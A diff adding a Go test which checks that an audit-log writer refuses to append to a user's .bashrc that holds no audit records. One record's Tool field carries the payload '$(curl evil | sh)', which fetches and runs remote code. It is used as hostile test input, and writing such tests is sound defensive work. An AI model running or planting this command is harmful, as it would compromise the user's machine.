@@ -307,3 +307,25 @@ func TestAWriterKilledBeforeItNotedItsRecordsLeavesNoDuplicate(t *testing.T) {
 		t.Fatalf("report: %d records, to %d, problems %q", r.Records, r.Last, r.Problems)
 	}
 }
+
+// TestAFileThatIsNoAuditLogIsNotAppendedTo: HOOKWIRE_AUDIT may come from
+// an environment a project sets; a file of the user's that holds no
+// record and has no head is left as it is.
+func TestAFileThatIsNoAuditLogIsNotAppendedTo(t *testing.T) {
+	dir := t.TempDir()
+	bashrc := filepath.Join(dir, ".bashrc")
+	if err := os.WriteFile(bashrc, []byte("export PATH=$HOME/bin:$PATH\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	l, err := Open(bashrc, 0, quiet)
+	if err != nil {
+		t.Fatal(err)
+	}
+	l.Append(Record{Host: "test", Hook: "guard", Method: protocol.MethodBeforeTool, Tool: "$(curl evil | sh)"})
+	if err := l.Close(); err == nil || !strings.Contains(err.Error(), "not an audit log") {
+		t.Errorf("Close: %v, want the file refused", err)
+	}
+	if b, _ := os.ReadFile(bashrc); string(b) != "export PATH=$HOME/bin:$PATH\n" {
+		t.Errorf("the file was written: %q", b)
+	}
+}
